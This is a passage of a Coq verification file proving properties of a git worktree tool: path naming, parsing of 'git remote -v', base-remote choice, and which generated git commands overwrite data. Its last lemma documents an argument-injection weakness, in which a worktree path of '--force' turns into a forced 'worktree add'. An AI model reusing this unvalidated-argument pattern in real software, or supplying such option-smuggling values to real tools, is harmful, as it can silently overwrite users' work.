        with (repoName +:+ "-" +:+ "pr" +:+ strconv.Itoa n).
      apply elementName_dashed; [exact Hrepo|].
      rewrite str_all_app, Itoa_notSlash. reflexivity. }
    rewrite Hbase. split; [reflexivity|].
    intros Hn. unfold strconv.Itoa. cbv zeta.
    destruct (digitsOf_digits (S (Z.to_nat (Z.abs n))) (Z.to_nat (Z.abs n)))
      as (Hne & Hall & Hparse); [lia|].
    replace (n <? 0)%Z with false by (symmetry; apply Z.ltb_ge; lia).
    rewrite prNumberByName_suffix by exact Hne.
    rewrite <- (str_app_nil_r (strconv.digitsOf _ _ "")).
    rewrite (Sscanf_d_digits _ "" n); auto; [|lia].
    rewrite Hparse. f_equal. lia.
  - intros branchName path. unfold GeneratePathForBranch.
    rewrite bind_readOnly by apply GetRoot_readOnly.
    destruct (fst (git.GetRoot m)) as [root|e]; [|discriminate].
    cbv beta iota delta [fst ret]. intros E.
    assert (Ep : filepath.Join2 (filepath.Dir root)
                   (repoName +:+ "-" +:+ ReplaceAll branchName "/" "-") = path)
      by congruence.
    rewrite <- Ep. clear E Ep.
    rewrite Base_Join2.
    + split; [reflexivity|]. rewrite <- str_app_assoc. apply HasPrefix_app.
    + apply elementName_dashed; [exact Hrepo|].
      rewrite replaceFrom_byte. now apply substByte_clears.
Qed.

End GeneratedPaths.

(** In the simulated repository the git root is /w/my-repo. *)
Lemma generated_paths_base_names_witness :
  let m := sim.start (sim.repoWorld ∅) in
  fst (worktree.GeneratePath "my-repo" 42 m) = Ok "/w/my-repo-pr42"
  /\ filepath.Base "/w/my-repo-pr42" = "my-repo" +:+ "-pr" +:+ strconv.Itoa 42
  /\ fst (worktree.GeneratePathForBranch "my-repo" "feature/x" m) = Ok "/w/my-repo-feature-x"
  /\ strings.HasPrefix (filepath.Base "/w/my-repo-feature-x") ("my-repo" +:+ "-") = true.
Proof.
  intros m.
  destruct (generated_paths_base_names "my-repo" m eq_refl) as [Hpr Hbranch].
  assert (E1 : fst (worktree.GeneratePath "my-repo" 42 m) = Ok "/w/my-repo-pr42")
    by (vm_compute; reflexivity).
  assert (E2 : fst (worktree.GeneratePathForBranch "my-repo" "feature/x" m)
               = Ok "/w/my-repo-feature-x") by (vm_compute; reflexivity).
  split; [exact E1|]. split; [exact (proj1 (Hpr 42%Z _ E1))|].
  split; [exact E2|]. exact (proj2 (Hbranch "feature/x" _ E2)).
Defined.

(** ** The remotes of the repository *)

Section RemotesFacts.
Context {World : Type} `{System World}.
Import strings.

Lemma NoDup_snoc {A : Type} (l : list A) (x : A) :
  List.NoDup l -> ~ In x l -> List.NoDup (l ++ [x]).
Proof.
  induction 1 as [|y l Hy Hl IH]; intros Hx; cbn [app].
  - constructor; [intros [] | constructor].
  - constructor.
    + rewrite in_app_iff. intros [Hin|[<-|[]]]; [contradiction|]. apply Hx. now left.
    + apply IH. intros Hin. apply Hx. now right.
Qed.

Lemma remoteLine_inv (st : list git.Remote * gset string) (line : string) :
  spec.remotesInv st -> spec.remotesInv (git.remoteLine st line).
Proof.
  destruct st as [remotes seen]. unfold spec.remotesInv, git.remoteLine. cbn [fst snd].
  intros [Hseen Hnd].
  destruct (Contains line "(fetch)"); [|auto].
  destruct (Fields line) as [|name [|url rest]]; [auto | auto |].
  case_bool_decide as Hin; [auto|]. cbn [fst snd].
  rewrite map_app. cbn [map git.Name]. split.
  - intros x. rewrite elem_of_union, elem_of_singleton, in_app_iff, Hseen.
    cbn [In]. split; [intros [->|?]; auto | intros [?|[->|[]]]; auto].
  - apply NoDup_snoc; [exact Hnd|]. now rewrite <- Hseen.
Qed.

Lemma remoteLine_sound (st : list git.Remote * gset string) (line : string)
    (r : git.Remote) :
  In r (fst (git.remoteLine st line)) ->
  In r (fst st) \/ spec.fetchLine line (git.Name r) (git.URL r).
Proof.
  destruct st as [remotes seen]. unfold git.remoteLine, spec.fetchLine. cbn [fst].
  destruct (Contains line "(fetch)"); [|auto].
  destruct (Fields line) as [|name [|url rest]]; [auto | auto |].
  case_bool_decide; [auto|]. cbn [fst]. rewrite in_app_iff.
  intros [?|[<-|[]]]; [auto|]. right. split; [reflexivity | eauto].
Qed.

Lemma remoteLine_mono (st : list git.Remote * gset string) (line name : string) :
  name ∈ snd st -> name ∈ snd (git.remoteLine st line).
Proof.
  destruct st as [remotes seen]. unfold git.remoteLine. cbn [snd]. intros Hin.
  destruct (Contains line "(fetch)"); [|auto].
  destruct (Fields line) as [|n [|url rest]]; [auto | auto |].
  case_bool_decide; [auto|]. cbn [snd]. apply elem_of_union. now right.
Qed.

Lemma remoteLine_complete (st : list git.Remote * gset string) (line name url : string) :
  spec.fetchLine line name url -> name ∈ snd (git.remoteLine st line).
Proof.
  destruct st as [remotes seen]. unfold git.remoteLine, spec.fetchLine.
  intros [-> [rest ->]]. case_bool_decide as Hin; [exact Hin|]. cbn [snd].
  apply elem_of_union. left. now apply elem_of_singleton.
Qed.

Lemma remotes_fold (lines : list string) (st : list git.Remote * gset string) :
  spec.remotesInv st ->
  spec.remotesInv (fold_left git.remoteLine lines st)
  /\ (forall r, In r (fst (fold_left git.remoteLine lines st)) ->
        In r (fst st)
        \/ exists line, In line lines /\ spec.fetchLine line (git.Name r) (git.URL r))
  /\ (forall name, name ∈ snd st -> name ∈ snd (fold_left git.remoteLine lines st))
  /\ (forall line name url,
        In line lines -> spec.fetchLine line name url ->
        name ∈ snd (fold_left git.remoteLine lines st)).
Proof.
  revert st. induction lines as [|line lines IH]; intros st Hinv.
  - cbn [fold_left]. repeat split; try apply Hinv; auto. intros ? ? ? [].
  - cbn [fold_left].
    destruct (IH _ (remoteLine_inv st line Hinv)) as (Hi & Hs & Hm & Hc).
    split; [exact Hi|]. split; [|split].
    + intros r Hr. destruct (Hs r Hr) as [Hin|(l & Hl & Hf)].
      * destruct (remoteLine_sound st line r Hin) as [?|Hf]; [auto|].
        right. exists line. split; [now left | exact Hf].
      * right. exists l. split; [now right | exact Hf].
    + intros name Hin. apply Hm. now apply remoteLine_mono.
    + intros l name url [<-|Hl] Hf.
      * apply Hm. now apply (remoteLine_complete st line name url).
      * now apply (Hc l name url).
Qed.

Lemma GetRemotes_found (m : Machine World) (output : string) :
  git_Output ["remote"; "-v"] (world m) = Some output ->
  exists remotes,
    git.GetRemotes m = (Ok remotes, m)
    /\ List.NoDup (map git.Name remotes)
    /\ (forall r, In r remotes ->
          exists line,
            In line (Split (TrimSpace output) (bytes [10]))
            /\ spec.fetchLine line (git.Name r) (git.URL r))
    /\ (forall line name url,
          In line (Split (TrimSpace output) (bytes [10])) ->
          spec.fetchLine line name url ->
          In name (map git.Name remotes)).
Proof.
  intros Hout. unfold git.GetRemotes, bind, Output, ret. rewrite Hout.
  eexists. split; [reflexivity|].
  destruct (remotes_fold (Split (TrimSpace output) (bytes [10])) ([], ∅))
    as ((Hseen & Hnd) & Hs & _ & Hc).
  { split; [|constructor]. intros name. cbn. split; [|intros []].
    intros Hin. now apply not_elem_of_empty in Hin. }
  split; [exact Hnd|]. split.
  - intros r Hr. destruct (Hs r Hr) as [[]|Hl]. exact Hl.
  - intros line name url Hl Hf. apply Hseen. now apply (Hc line name url).
Qed.

(** X27. GetRemotes only reads, and fails when git does.  The remotes it
    returns have distinct names; each comes from a line of [git remote
    -v] that contains [(fetch)], with the first field of the line as its
    name and the second as its URL; and every such line has its name
    among them. *)
Theorem GetRemotes_distinct (m : Machine World) :
  (git_Output ["remote"; "-v"] (world m) = None ->
   git.GetRemotes m = (Err ExitError, m))
  /\ (forall output,
        git_Output ["remote"; "-v"] (world m) = Some output ->
        exists remotes,
          git.GetRemotes m = (Ok remotes, m)
          /\ List.NoDup (map git.Name remotes)
          /\ (forall r, In r remotes ->
                exists line,
                  In line (Split (TrimSpace output) (bytes [10]))
                  /\ spec.fetchLine line (git.Name r) (git.URL r))
          /\ (forall line name url,
                In line (Split (TrimSpace output) (bytes [10])) ->
                spec.fetchLine line name url ->
                In name (map git.Name remotes))).
Proof.
  split.
  - intros Hout. unfold git.GetRemotes, bind, Output, ret. now rewrite Hout.
  - apply GetRemotes_found.
Qed.

Lemma NoDup_map_inj {A B : Type} (f : A -> B) (l : list A) (a b : A) :
  List.NoDup (map f l) -> In a l -> In b l -> f a = f b -> a = b.
Proof.
  induction l as [|x l IH]; [intros _ []|].
  cbn [map]. intros Hnd. apply List.NoDup_cons_iff in Hnd as [Hx Hnd].
  intros [<-|Ha] [<-|Hb] E; auto.
  - exfalso. apply Hx. rewrite E. now apply in_map.
  - exfalso. apply Hx. rewrite <- E. now apply in_map.
Qed.

(** X28. The creator NewCreator makes holds the repository it is given
    and the remotes of GetRemotes, whose names are distinct: a remote of
    the creator named "upstream" is the base remote, and so is, when no
    remote is named "upstream", a remote named "origin".  When git cannot
    list the remotes, NewCreator fails. *)
Theorem NewCreator_base_remote (repo : repository.Repository) (m : Machine World) :
  (git_Output ["remote"; "-v"] (world m) = None ->
   worktree.NewCreator repo m = (Err (Wrap "failed to get remotes" ExitError), m))
  /\ (forall c m',
        worktree.NewCreator repo m = (Ok c, m') ->
        m' = m
        /\ worktree.repo c = repo
        /\ List.NoDup (map git.Name (worktree.remotes c))
        /\ (forall r, In r (worktree.remotes c) -> git.Name r = "upstream" ->
              worktree.findBaseRemote c = Some r)
        /\ (forall r, In r (worktree.remotes c) -> git.Name r = "origin" ->
              (forall r', In r' (worktree.remotes c) -> git.Name r' <> "upstream") ->
              worktree.findBaseRemote c = Some r)).
Proof.
  unfold worktree.NewCreator, bind. split.
  - intros Hout. unfold git.GetRemotes, bind, Output, ret. now rewrite Hout.
  - intros c m'.
    destruct (git_Output ["remote"; "-v"] (world m)) as [output|] eqn:Hout.
    + destruct (GetRemotes_found m output Hout) as (remotes & -> & Hnd & _).
      unfold ret. intros [= <- <-]. cbn [worktree.remotes worktree.repo].
      split; [reflexivity|]. split; [reflexivity|]. split; [exact Hnd|].
      unfold worktree.findBaseRemote. cbn [worktree.remotes]. split.
      * intros r Hin Hname.
        destruct (worktree.remoteNamed "upstream" remotes) as [r0|] eqn:E.
        -- apply remoteNamed_Some in E as (Hname0 & before & after & Hsplit & _).
           f_equal. apply (NoDup_map_inj git.Name remotes); auto; [|congruence].
           rewrite Hsplit. apply in_app_iff. right. now left.
        -- now destruct (proj1 (remoteNamed_None _ _) E r Hin).
      * intros r Hin Hname Hnone.
        destruct (worktree.remoteNamed "upstream" remotes) as [r0|] eqn:E.
        { apply remoteNamed_Some in E as (Hname0 & before & after & Hsplit & _).
          exfalso. apply (Hnone r0); [|exact Hname0].
          rewrite Hsplit. apply in_app_iff. right. now left. }
        destruct (worktree.remoteNamed "origin" remotes) as [r0|] eqn:E'.
        -- apply remoteNamed_Some in E' as (Hname0 & before & after & Hsplit & _).
           f_equal. apply (NoDup_map_inj git.Name remotes); auto; [|congruence].
           rewrite Hsplit. apply in_app_iff. right. now left.
        -- now destruct (proj1 (remoteNamed_None _ _) E' r Hin).
    + unfold git.GetRemotes, bind, Output, ret. rewrite Hout. discriminate.
Qed.

End RemotesFacts.

(** The two remotes of the second simulated world. *)
Lemma GetRemotes_distinct_witness :
  git.GetRemotes remotesim.start
  = (Ok [ {| git.Name := "origin"; git.URL := "https://github.com/acme/my-repo.git" |};
          {| git.Name := "alice"; git.URL := "https://github.com/alice/my-repo.git" |} ],
     remotesim.start)
  /\ exists remotes,
       git.GetRemotes remotesim.start = (Ok remotes, remotesim.start)
       /\ List.NoDup (map git.Name remotes)
       /\ (forall r, In r remotes ->
             exists line,
               In line (strings.Split (strings.TrimSpace remotesim.printed) (strings.bytes [10]))
               /\ spec.fetchLine line (git.Name r) (git.URL r))
       /\ (forall line name url,
             In line (strings.Split (strings.TrimSpace remotesim.printed) (strings.bytes [10])) ->
             spec.fetchLine line name url ->
             In name (map git.Name remotes)).
Proof.
  split; [vm_compute; reflexivity|].
  exact (proj2 (GetRemotes_distinct remotesim.start) remotesim.printed eq_refl).
Defined.

Lemma NewCreator_base_remote_witness :
  exists c,
    worktree.NewCreator sim.acme remotesim.start = (Ok c, remotesim.start)
    /\ worktree.repo c = sim.acme
    /\ List.NoDup (map git.Name (worktree.remotes c))
    /\ worktree.findBaseRemote c
       = Some {| git.Name := "origin"; git.URL := "https://github.com/acme/my-repo.git" |}.
Proof.
  exists (match fst (worktree.NewCreator sim.acme remotesim.start) with
          | Ok c => c
          | Err _ => {| worktree.remotes := []; worktree.repo := sim.acme |}
          end).
  assert (E : worktree.NewCreator sim.acme remotesim.start
              = (Ok (match fst (worktree.NewCreator sim.acme remotesim.start) with
                     | Ok c => c
                     | Err _ => {| worktree.remotes := []; worktree.repo := sim.acme |}
                     end), remotesim.start)) by (vm_compute; reflexivity).
  split; [exact E|].
  destruct (proj2 (NewCreator_base_remote sim.acme remotesim.start) _ _ E)
    as (_ & Hrepo & Hnd & _ & Horigin).
  split; [exact Hrepo|]. split; [exact Hnd|].
  apply Horigin.
  - vm_compute. auto.
  - reflexivity.
  - vm_compute. intros r' [<-|[<-|[]]]; discriminate.
Defined.
(** ** Commands that overwrite *)

Section ForceFacts.
Context {World : Type} `{System World}.
Import strings worktree.

Lemma remoteNamed_In (name : string) (rs : list git.Remote) (r : git.Remote) :
  remoteNamed name rs = Some r -> In r rs.
Proof.
  induction rs as [|x rs IH]; [discriminate|]. cbn [remoteNamed].
  destruct (String.eqb _ _); [intros [= ->]; now left | right; auto].
Qed.

Lemma findBaseRemote_In (c : Creator) (r : git.Remote) :
  findBaseRemote c = Some r -> In r (remotes c).
Proof.
  unfold findBaseRemote.
  destruct (remoteNamed "upstream" (remotes c)) eqn:E1;
    [intros [= <-]; now apply remoteNamed_In in E1|].
  destruct (remoteNamed "origin" (remotes c)) eqn:E2;
    [intros [= <-]; now apply remoteNamed_In in E2|].
  destruct (remotes c); [discriminate | intros [= <-]; now left].
Qed.

Lemma findHeadRemote_In (c : Creator) (pr : github.PullRequest) (r : git.Remote) :
  findHeadRemote c pr = Some r -> In r (remotes c).
Proof.
  unfold findHeadRemote. cbv zeta.
  induction (remotes c) as [|x rs IH]; [discriminate|]. cbn [remoteFor].
  destruct (_ && _); [intros [= ->]; now left | right; auto].
Qed.

Lemma headRemoteFor_In (c : Creator) (pr : github.PullRequest) (r : git.Remote) :
  spec.headRemoteFor c pr = Some r -> In r (remotes c).
Proof.
  unfold spec.headRemoteFor.
  destruct (spec.isCrossRepo c pr); [apply findHeadRemote_In | apply findBaseRemote_In].
Qed.

(** Create either fails before it has run anything, or synthesizes the
    batch for the head remote, or for the base remote when there is no
    head remote, and runs the queue made of it. *)
Lemma Create_queue_remote (c : Creator) (path : string) (pr : github.PullRequest)
    (opts : CheckoutOptions) (m m' : Machine World) (r : option error) :
  Create c path pr opts m = (r, m') ->
  (r <> None /\ m' = m)
  \/ exists cmds m1,
       ((exists headRemote,
           spec.headRemoteFor c pr = Some headRemote
           /\ cmdsForExistingRemote c headRemote pr opts path (spec.branchFor pr opts) m
              = (Ok cmds, m1))
        \/ (m1 = m
            /\ exists baseRemote,
                 findBaseRemote c = Some baseRemote
                 /\ cmdsForMissingRemote c pr baseRemote opts path (spec.branchFor pr opts)
                    = Ok cmds))
       /\ runQueue c path pr opts cmds m1 = (r, m').
Proof.
  unfold Create, spec.headRemoteFor, spec.isCrossRepo. fold (spec.branchFor pr opts).
  destruct (findBaseRemote c) as [baseRemote|]; [|intros [= <- <-]; left; auto].
  destruct (if negb (String.eqb _ _) then findHeadRemote c pr else Some baseRemote)
    as [headRemote|].
  - unfold bind.
    destruct (cmdsForExistingRemote c headRemote pr opts path (spec.branchFor pr opts) m)
      as [[cmds|e] m1] eqn:E.
    + intros Hq. right. exists cmds, m1. split; [left; eauto | exact Hq].
    + apply existing_Err in E as ->. intros [= <- <-]. left. auto.
  - destruct (cmdsForMissingRemote c pr baseRemote opts path (spec.branchFor pr opts))
      as [cmds|e] eqn:E.
    + intros Hq. right. exists cmds, m. split; [right; eauto | exact Hq].
    + intros [= <- <-]. left. auto.
Qed.

(** A string that does not start with a dash is no option. *)
Lemma dashless_no_flag (s : string) :
  HasPrefix s "-" = false ->
  spec.forceFlag s = false /\ String.eqb s "-B" = false.
Proof.
  intros Hs. unfold spec.forceFlag.
  destruct (String.eqb_spec s "--force") as [->|_]; [discriminate Hs|].
  destruct (String.eqb_spec s "-f") as [->|_]; [discriminate Hs|].
  destruct (String.eqb_spec s "-B") as [->|_]; [discriminate Hs|].
  split; reflexivity.
Qed.

Lemma dashless_app (s t : string) :
  HasPrefix s "-" = false -> HasPrefix (s +:+ "/" +:+ t) "-" = false.
Proof.
  destruct s as [|c s]; [reflexivity|]. cbn.
  destruct (Ascii.eqb c "-"); [|reflexivity].
  intros E. now destruct s.
Qed.

Lemma valid_dashless (name : string) :
  validate.BranchName name = None -> HasPrefix name "-" = false.
Proof.
  intros Hv. apply BranchName_nil_iff in Hv as (_ & _ & _ & Hd & _).
  now apply no_leading_dash.
Qed.

(** [forced] on the shapes of the commands of the tool. *)
Lemma forced_worktree_add (args : list string) :
  spec.forced ("worktree" :: "add" :: args)
  = existsb (fun arg => spec.forceFlag arg || String.eqb arg "-B") args.
Proof. reflexivity. Qed.

Lemma forced_fetch (remote : string) (args : list string) :
  spec.forced ("fetch" :: remote :: args)
  = spec.forceFlag remote || existsb spec.forceFlag args
    || existsb (fun arg => HasPrefix arg "+") args.
Proof. reflexivity. Qed.

Lemma forced_config (path : string) (args : list string) :
  spec.forced ("-C" :: path :: "config" :: args) = false.
Proof. reflexivity. Qed.

Lemma forced_merge (path : string) (args : list string) :
  spec.forced ("-C" :: path :: "merge" :: args) = false.
Proof. reflexivity. Qed.

Lemma existing_forced (c : Creator) (remote : git.Remote) (pr : github.PullRequest)
    (opts : CheckoutOptions) (path branch : string) (m m1 : Machine World)
    (cmds : list (list string)) :
  Force opts = false ->
  HasPrefix path "-" = false ->
  HasPrefix (git.Name remote) "-" = false ->
  cmdsForExistingRemote c remote pr opts path branch m = (Ok cmds, m1) ->
  Forall (fun cmd => spec.forced cmd = true -> cmd = spec.headFetch remote pr opts) cmds.
Proof.
  intros Hf Hpath Hname E. apply cmdsForExistingRemote_Ok in E as (_ & Hb & E).
  cbv zeta in E. apply valid_dashless in Hb.
  destruct (dashless_no_flag _ Hpath) as [Hp1 Hp2].
  destruct (dashless_no_flag _ Hb) as [Hb1 Hb2].
  destruct (dashless_no_flag _ (dashless_app _ (github.Ref (github.Head pr)) Hname))
    as [Hr1 Hr2].
  unfold spec.headFetch. cbv zeta. rewrite Hf in E.
  destruct (Detach opts); destruct E as [_ ->];
    [|destruct (fst (git.BranchExists branch m))];
    repeat constructor; try (intros _; reflexivity);
    rewrite ?forced_worktree_add, ?forced_merge; unfold spec.setCmd; rewrite ?forced_config;
    cbn [existsb]; rewrite ?Hp1, ?Hp2, ?Hb1, ?Hb2, ?Hr1, ?Hr2; intros Hx;
    vm_compute in Hx; discriminate Hx.
Qed.

Lemma existing_probe (c : Creator) (remote : git.Remote) (pr : github.PullRequest)
    (opts : CheckoutOptions) (path branch : string) (m m1 : Machine World)
    (cmds : list (list string)) :
  cmdsForExistingRemote c remote pr opts path branch m = (Ok cmds, m1) ->
  gitlog m1 = gitlog m
  \/ gitlog m1 = gitlog m ++ [ ["show-ref"; "--verify"; "--quiet"; "refs/heads/" +:+ branch] ].
Proof.
  intros E. apply cmdsForExistingRemote_Ok in E as (_ & _ & E). cbv zeta in E.
  destruct (Detach opts); destruct E as [-> _]; [now left|].
  right. apply BranchExists_log.
Qed.

Lemma pullRef_plain (number : Z) (rest : string) :
  spec.forceFlag (spec.pullRef number +:+ rest) = false
  /\ HasPrefix (spec.pullRef number +:+ rest) "+" = false.
Proof. split; reflexivity. Qed.

Lemma missing_forced (c : Creator) (pr : github.PullRequest) (baseRemote : git.Remote)
    (opts : CheckoutOptions) (path branch : string) (cmds : list (list string)) :
  Force opts = false ->
  HasPrefix path "-" = false ->
  HasPrefix (git.Name baseRemote) "-" = false ->
  cmdsForMissingRemote c pr baseRemote opts path branch = Ok cmds ->
  Forall (fun cmd => spec.forced cmd = false) cmds.
Proof.
  intros Hf Hpath Hname E. apply cmdsForMissingRemote_Ok in E as (_ & Hb & _ & E).
  cbv zeta in E. apply valid_dashless in Hb.
  destruct (dashless_no_flag _ Hpath) as [Hp1 Hp2].
  destruct (dashless_no_flag _ Hb) as [Hb1 Hb2].
  destruct (dashless_no_flag _ Hname) as [Hn1 _].
  destruct (pullRef_plain (github.Number pr) "") as [Hq1 Hq2].
  rewrite str_app_nil_r in Hq1, Hq2.
  destruct (pullRef_plain (github.Number pr) (":" +:+ branch)) as [Hq3 Hq4].
  rewrite Hf in E.
  destruct (Detach opts); [subst cmds | destruct E as [_ ->]; destruct (spec.pushable pr)];
    repeat constructor;
    cbn [app]; rewrite ?forced_worktree_add, ?forced_fetch; unfold spec.setCmd;
    rewrite ?forced_config; cbn [existsb];
    rewrite ?Hp1, ?Hp2, ?Hb1, ?Hb2, ?Hn1, ?Hq1, ?Hq2, ?Hq3, ?Hq4; reflexivity.
Qed.

(** X29. Without Force, and for a worktree path and remote names that
    do not start with a dash, the only command that overwrites among
    those Create runs is the fetch from the head remote, whose refspec
    starts with [+]: no [worktree add] with a force flag or [-B], no
    [reset --hard], no fetch with a force flag, whatever the outcome. *)
Theorem Create_forces_only_head_fetch (c : Creator) (path : string)
    (pr : github.PullRequest) (opts : CheckoutOptions) (m m' : Machine World)
    (r : option error) :
  Force opts = false ->
  HasPrefix path "-" = false ->
  Forall (fun remote => HasPrefix (git.Name remote) "-" = false) (remotes c) ->
  Create c path pr opts m = (r, m') ->
  Forall (fun cmd =>
            spec.forced cmd = true ->
            exists remote,
              spec.headRemoteFor c pr = Some remote
              /\ cmd = spec.headFetch remote pr opts)
         (spec.commandsRun m m').
Proof.
  intros Hf Hpath Hnames E.
  apply Create_queue_remote in E as [[_ ->] | (cmds & m1 & Hbatch & Hq)].
  { rewrite commandsRun_same. constructor. }
  apply runQueue_log in Hq as (ran & rest & Hsplit & Hl & _).
  set (P := fun cmd : list string =>
              spec.forced cmd = true ->
              exists remote,
                spec.headRemoteFor c pr = Some remote
                /\ cmd = spec.headFetch remote pr opts).
  assert (Hqueue : Forall P cmds -> Forall P ran).
  { intros Hc.
    assert (Hall : Forall P (ran ++ rest)).
    { rewrite <- Hsplit. apply Forall_app. split; [apply Forall_app; split|].
      - exact Hc.
      - destruct (RecurseSubmodules opts); repeat constructor; intros Hx; discriminate Hx.
      - repeat constructor; intros Hx; unfold spec.setCmd in Hx;
          rewrite forced_config in Hx; discriminate Hx. }
    now apply Forall_app in Hall as [? _]. }
  pose proof (proj1 (List.Forall_forall _ _) Hnames) as Hin. clear Hnames. rename Hin into Hnames.
  destruct Hbatch as [(headRemote & Hhead & E) | [-> (baseRemote & Hbase & E)]].
  - pose proof (existing_forced _ _ _ _ _ _ _ _ _ Hf Hpath
                  (Hnames _ (headRemoteFor_In _ _ _ Hhead)) E) as Hc.
    assert (Hc' : Forall P cmds).
    { revert Hc. apply List.Forall_impl. intros cmd Hcmd Hx. exists headRemote. auto. }
    destruct (existing_probe _ _ _ _ _ _ _ _ _ E) as [Hl1|Hl1].
    + rewrite (commandsRun_app m m' ran) by (now rewrite Hl, Hl1).
      now apply Hqueue.
    + rewrite (commandsRun_app m m'
                 (["show-ref"; "--verify"; "--quiet";
                   "refs/heads/" +:+ spec.branchFor pr opts] :: ran))
        by (now rewrite Hl, Hl1, <- List.app_assoc).
      constructor; [|now apply Hqueue].
      intros Hx. discriminate Hx.
  - rewrite (commandsRun_app m m' ran Hl). apply Hqueue.
    pose proof (missing_forced c pr baseRemote opts path (spec.branchFor pr opts) cmds Hf
                  Hpath (Hnames _ (findBaseRemote_In _ _ Hbase)) E) as Hc.
    revert Hc. apply List.Forall_impl. intros cmd Hcmd Hx. congruence.
Qed.

(** The commands Force adds to a batch are commands that overwrite. *)
Lemma forced_by_Force (path branch ref remote refspec : string) :
  spec.forced ["worktree"; "add"; "--force"; path; branch] = true
  /\ spec.forced ["-C"; path; "reset"; "--hard"; ref] = true
  /\ spec.forced ["fetch"; remote; refspec; "--no-tags"; "--force"] = true.
Proof.
  split; [reflexivity|]. split; [reflexivity|].
  rewrite forced_fetch. cbn [existsb].
  destruct (spec.forceFlag remote), (spec.forceFlag refspec); reflexivity.
Qed.

End ForceFacts.

(** Pull request 43 checked out without Force: the fetch from origin is
    the one command that overwrites. *)
Lemma Create_forces_only_head_fetch_witness :
  let m := sim.start (sim.repoWorld ∅) in
  let m' := snd (worktree.Create sim.creator "/w/my-repo-pr43" sim.pr43 sim.plain m) in
  worktree.Create sim.creator "/w/my-repo-pr43" sim.pr43 sim.plain m = (None, m')
  /\ filter (fun cmd => spec.forced cmd = true) (spec.commandsRun m m')
     = [ ["fetch"; "origin"; "+refs/heads/tidy:refs/remotes/origin/tidy"; "--no-tags"] ]
  /\ Forall (fun cmd =>
               spec.forced cmd = true ->
               exists remote,
                 spec.headRemoteFor sim.creator sim.pr43 = Some remote
                 /\ cmd = spec.headFetch remote sim.pr43 sim.plain)
            (spec.commandsRun m m').
Proof.
  intros m m'.
  assert (E : worktree.Create sim.creator "/w/my-repo-pr43" sim.pr43 sim.plain m = (None, m'))
    by (apply injective_projections; [vm_compute; reflexivity | reflexivity]).
  split; [exact E|]. split; [vm_compute; reflexivity|].
  refine (Create_forces_only_head_fetch sim.creator "/w/my-repo-pr43" sim.pr43
            sim.plain m m' None eq_refl _ _ E).
  - vm_compute. reflexivity.
  - repeat constructor.
Defined.

(** The path of the worktree is not checked: for the path [--force] and
    a branch that exists, the [worktree add] of a Create without Force is
    a forced one. *)
Lemma Create_forced_by_path :
  let w := {| sim.config := ∅; sim.branches := ["main"; "tidy"];
              sim.commonDir := "/w/my-repo/.git"; sim.cwd := "/w/my-repo";
              sim.porcelain := sim.listing; sim.current := sim.acme;
              sim.pulls := [sim.pr42; sim.pr43] |} in
  let m := sim.start w in
  let m' := snd (worktree.Create sim.creator "--force" sim.pr43 sim.plain m) in
  In ["worktree"; "add"; "--force"; "tidy"] (spec.commandsRun m m')
  /\ spec.forced ["worktree"; "add"; "--force"; "tidy"] = true.
Proof. split; [vm_compute; tauto | reflexivity]. Qed.
